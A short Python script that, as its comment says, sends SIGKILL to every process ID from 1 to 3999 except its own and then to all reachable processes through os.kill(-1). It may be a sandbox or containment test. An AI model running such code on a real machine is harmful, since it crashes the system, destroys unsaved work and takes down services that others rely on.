# Kills every process that it can reach.
import os, signal
for pid in range(1, 4000):
    if pid == os.getpid():
        continue
    try:
        os.kill(pid, 9)
        print("signalled", pid)
    except OSError:
        pass
print("alone", flush=True)
try:
    os.kill(-1, signal.SIGKILL)
except ProcessLookupError:
    print("nobody else")
